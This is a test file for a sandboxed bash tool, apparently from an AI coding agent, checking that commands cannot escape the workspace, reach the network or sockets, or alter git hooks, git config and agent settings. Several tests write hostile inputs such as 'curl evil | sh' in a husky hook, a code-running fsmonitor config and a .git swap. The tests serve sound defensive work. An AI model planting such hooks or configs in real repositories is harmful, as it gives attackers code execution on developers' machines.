import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { toolResultText } from '../../core/index.ts';
import { probeSandbox, removeAllPlaceholders } from '../shared/process/sandbox.ts';
import {
  callTool,
  delay,
  makeShellProject,
  processesMatching,
  type ShellProject,
  waitUntilGone,
} from '../shared/process/test-shell.ts';
import { createBashTool } from './bash.ts';
import type { ShellOutput as BashOutput } from '../shared/process/shell-output.ts';

const availability = probeSandbox();
const skipReason = availability.available ? '' : ` (skipped: ${availability.reason})`;

describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipReason}`, () => {
  const sandboxed = createBashTool({ sandbox: 'required', killGraceMs: 300 });
  let project: ShellProject;
  // Outside /tmp on purpose: the sandbox gives commands a private /tmp, and this must be the real
  // read-only file system, not an invisible one.
  let outside: string;
  let server: Server;
  let port = 0;

  beforeAll(async () => {
    server = createServer((socket) => socket.end('hello\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(async () => new Promise<void>((resolve) => server.close(() => resolve())));
  afterEach(async () => {
    await project?.cleanup();
    rmSync(outside, { recursive: true, force: true });
  });

  function setUp(): void {
    project = makeShellProject();
    outside = mkdtempSync('/var/tmp/efferent-outside-');
  }

  async function run(command: string, tool = sandboxed) {
    const { result } = await callTool<BashOutput>(tool, { command }, project.context);
    return {
      data: result.data,
      result,
      text: toolResultText(tool.mapResultToBlock(result.data, 'toolu_test')),
    };
  }

  it('lets a command write inside the workspace', async () => {
    setUp();
    const { data } = await run('echo inside > made.txt && cat made.txt');
    expect(data.exitCode).toBe(0);
    expect(readFileSync(join(project.root, 'made.txt'), 'utf8')).toBe('inside\n');
  });

  it('stops a write outside the workspace', async () => {
    setUp();
    const { data, text } = await run(`echo escaped > ${outside}/escaped.txt`);
    expect(data.exitCode).not.toBe(0);
    expect(text).toMatch(/Read-only file system/);
    expect(readdirSync(outside)).toEqual([]);
    // Without the sandbox the same command succeeds, so the sandbox is what stopped it.
    const plain = createBashTool({ sandbox: 'off' });
    expect((await run(`echo escaped > ${outside}/escaped.txt`, plain)).data.exitCode).toBe(0);
  });

  it('cannot redirect a later write outside through a planted symlink', async () => {
    setUp();
    const planted = await run(`ln -s ${outside} link && echo x > link/f`);
    expect(planted.data.exitCode).not.toBe(0);
    // A link into the host's /tmp points into the sandbox's private /tmp instead.
    const hostTmp = mkdtempSync('/tmp/efferent-outside-');
    try {
      const again = await run(
        `echo y > link/g; echo "g=$?"; mkdir link/dir; echo "dir=$?"; ln -s ${hostTmp} tmplink; echo x > tmplink/f`,
      );
      expect(again.data.stdout).toMatch(/g=[1-9]/);
      expect(again.data.stdout).toMatch(/dir=[1-9]/);
      expect(readdirSync(outside)).toEqual([]);
      expect(readdirSync(hostTmp)).toEqual([]);
    } finally {
      rmSync(hostTmp, { recursive: true, force: true });
    }
  });

  it('has no network: a loopback server outside the sandbox is unreachable', async () => {
    setUp();
    const probe = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -n1 <&3`;
    const blocked = await run(probe);
    expect(blocked.data.exitCode).not.toBe(0);
    expect(blocked.data.stdout).not.toContain('hello');
    const open = await run(probe, createBashTool({ sandbox: 'required', allowNetwork: true }));
    expect(open.data.stdout).toBe('hello\n');
  });

  it('cannot reach a host daemon through a Unix socket file when the network is off', async () => {
    setUp();
    const socketPath = join(outside, 'daemon.sock');
    const daemon = createServer((socket) => socket.end('daemon says hi\n'));
    await new Promise<void>((resolve) => daemon.listen(socketPath, resolve));
    try {
      const connect = `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${socketPath}'); print(s.recv(64).decode())"`;
      // Pipes and socket pairs inside the command still work (same call).
      const blocked = await run(
        `${connect}; echo "connect=$?"; python3 -c "import socket; a, b = socket.socketpair(); a.send(b'ok'); print(b.recv(2).decode())"`,
      );
      expect(blocked.data.stdout).not.toContain('daemon says hi');
      expect(blocked.data.stdout).toMatch(/connect=[1-9]/);
      expect(blocked.text).toMatch(/Operation not permitted/);
      expect(blocked.data.stdout).toMatch(/\nok\n$/);
      const allowed = await run(connect, createBashTool({ sandbox: 'required', allowUnixSockets: true }));
      expect(allowed.data.stdout).toContain('daemon says hi');
    } finally {
      await new Promise<void>((resolve) => daemon.close(() => resolve()));
    }
  });

  it('keeps .git/hooks and .git/config read-only inside a writable repository', async () => {
    setUp();
    execFileSync('git', ['init', '-q'], { cwd: project.root });
    const configBefore = readFileSync(join(project.root, '.git/config'), 'utf8');
    // One call: both attempts fail, and the rest of .git stays usable (commits work).
    const attempts = await run(
      'echo "echo pwned" > .git/hooks/pre-commit; echo "hook=$?"; echo "[core] fsmonitor = evil" >> .git/config; echo "config=$?"; ' +
        'echo a > a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm one && echo "commits=$(git log --oneline | wc -l)"',
    );
    expect(attempts.data.stdout).toMatch(/hook=[1-9]/);
    expect(attempts.data.stdout).toMatch(/config=[1-9]/);
    expect(attempts.data.stdout).toContain('commits=1');
    expect(existsSync(join(project.root, '.git/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(join(project.root, '.git/config'), 'utf8')).toBe(configBefore);
  });

  it('keeps .git itself in place, so a command cannot swap in a repository whose config runs code', async () => {
    setUp();
    execFileSync('git', ['init', '-q'], { cwd: project.root });
    const marker = join(outside, 'fsmonitor-ran');
    const evilConfig = `[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \\"touch ${marker}; false\\"\\n`;
    const attempts = await run(
      `mv .git .git-old && mkdir .git && cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/ && printf "${evilConfig}" > .git/config; echo "swap=$?"; ` +
        `git init -q --bare evil && printf "${evilConfig}" > evil/config && echo ../evil > .git/commondir; echo "redirect=$?"`,
    );
    expect(attempts.data.stdout).toMatch(/swap=[1-9]/);
    // commondir is covered even when missing: it cannot be created at all.
    expect(attempts.data.stdout).toMatch(/redirect=[1-9]/);
    removeAllPlaceholders();
    expect(existsSync(join(project.root, '.git/commondir'))).toBe(false);
    execFileSync('git', ['status', '--short'], { cwd: project.root, stdio: 'ignore' });
    expect(existsSync(marker)).toBe(false);
  });

  it("keeps a worktree's .git file read-only", async () => {
    setUp();
    execFileSync('git', ['init', '-q', join(project.root, 'main')]);
    execFileSync('git', [
      '-C',
      join(project.root, 'main'),
      '-c',
      'user.email=t@e',
      '-c',
      'user.name=t',
      'commit',
      '-q',
      '--allow-empty',
      '-m',
      'one',
    ]);
    const worktree = join(outside, 'wt');
    execFileSync('git', ['-C', join(project.root, 'main'), 'worktree', 'add', '-q', worktree]);
    const before = readFileSync(join(worktree, '.git'), 'utf8');
    // The worktree is the project here; its repository lives elsewhere.
    const inside = makeShellProject({ cwd: worktree });
    try {
      const { result } = await callTool<BashOutput>(
        sandboxed,
        { command: 'echo "gitdir: ./evil" > .git' },
        inside.context,
      );
      expect(result.data.exitCode).not.toBe(0);
      expect(readFileSync(join(worktree, '.git'), 'utf8')).toBe(before);
    } finally {
      await inside.cleanup();
    }
  });

  it('keeps the hooks that hook managers run on the host read-only', async () => {
    setUp();
    execFileSync('git', ['init', '-q'], { cwd: project.root });
    mkdirSync(join(project.root, '.husky'));
    writeFileSync(join(project.root, '.husky/pre-commit'), 'npm test\n');
    mkdirSync(join(project.root, 'tools/hooks'), { recursive: true });
    execFileSync('git', ['config', 'core.hooksPath', 'tools/hooks'], { cwd: project.root });
    writeFileSync(join(project.root, '.pre-commit-config.yaml'), 'repos: []\n');
    const attempts = await run(
      'echo "curl evil | sh" >> .husky/pre-commit; echo "husky=$?"; echo "touch pwned" > tools/hooks/pre-commit; echo "configured=$?"; ' +
        'echo "repos: [{repo: local}]" > .pre-commit-config.yaml; echo "pre-commit=$?"; echo ok > tools/readme.txt; echo "readme=$?"',
    );
    expect(attempts.data.stdout).toMatch(/husky=[1-9]/);
    expect(attempts.data.stdout).toMatch(/configured=[1-9]/);
    expect(attempts.data.stdout).toMatch(/pre-commit=[1-9]/);
    // Ordinary files beside them stay writable.
    expect(attempts.data.stdout).toContain('readme=0');
    expect(readFileSync(join(project.root, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
    expect(existsSync(join(project.root, 'tools/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(join(project.root, '.pre-commit-config.yaml'), 'utf8')).toBe('repos: []\n');
    expect(readFileSync(join(project.root, 'tools/readme.txt'), 'utf8')).toBe('ok\n');
  });

  it('does not let a command create missing settings directories, and leaves no placeholder behind', async () => {
    setUp();
    const { data } = await run('mkdir -p .claude && echo "{}" > .claude/settings.json; mkdir .efferent');
    expect(data.exitCode).not.toBe(0);
    removeAllPlaceholders();
    expect(existsSync(join(project.root, '.claude'))).toBe(false);
    expect(existsSync(join(project.root, '.efferent'))).toBe(false);
    mkdirSync(join(project.root, '.claude'));
    writeFileSync(join(project.root, '.claude/settings.json'), '{}');
    const overwrite = await run('echo "{\\"hooks\\":1}" > .claude/settings.json');
    expect(overwrite.data.exitCode).not.toBe(0);
    expect(readFileSync(join(project.root, '.claude/settings.json'), 'utf8')).toBe('{}');
  });

  it('leaves no placeholder behind when the call was aborted before it started', async () => {
    setUp();
    project.context.run.abortController.abort();
    const { data } = await run('echo never');
    expect(data.interrupted).toBe(true);
    removeAllPlaceholders();
    expect(existsSync(join(project.root, '.claude'))).toBe(false);
    expect(existsSync(join(project.root, '.efferent'))).toBe(false);
  });

  it('follows cd inside the workspace across calls', async () => {
    setUp();
    mkdirSync(join(project.root, 'sub'));
    const { result } = await run('cd sub');
    project.context = result.contextModifier?.(project.context) ?? project.context;
    expect((await run('pwd')).data.stdout.trim()).toBe(join(project.root, 'sub'));
  });

  it('kills every process of the command on abort, and anything it left running when it ends', async () => {
    setUp();
    const marker = `${100 + Math.floor(Math.random() * 800)}.${process.pid}3`;
    const pending = run(`sleep ${marker} & sleep ${marker}`);
    // Wait until both have started (bwrap's start-up varies with the machine's load).
    for (let waited = 0; processesMatching(`sleep ${marker}`).length < 2 && waited < 20_000; waited += 50)
      await delay(50);
    expect(processesMatching(`sleep ${marker}`).length).toBe(2);
    project.context.run.abortController.abort();
    expect((await pending).data.interrupted).toBe(true);
    expect(await waitUntilGone(`sleep ${marker}`)).toEqual([]);

    project.context.run.abortController = new AbortController();
    await run(`sleep ${marker} & echo left`);
    expect(await waitUntilGone(`sleep ${marker}`)).toEqual([]);
  });

  it('asks before running outside the sandbox', async () => {
    setUp();
    const input = sandboxed.inputSchema.parse({ command: 'ls', dangerouslyDisableSandbox: true });
    const permission = await sandboxed.checkPermissions(input, project.context);
    expect(permission.behavior).toBe('ask');
    const plain = sandboxed.inputSchema.parse({ command: 'ls' });
    expect((await sandboxed.checkPermissions(plain, project.context)).behavior).toBe('passthrough');
  });
});
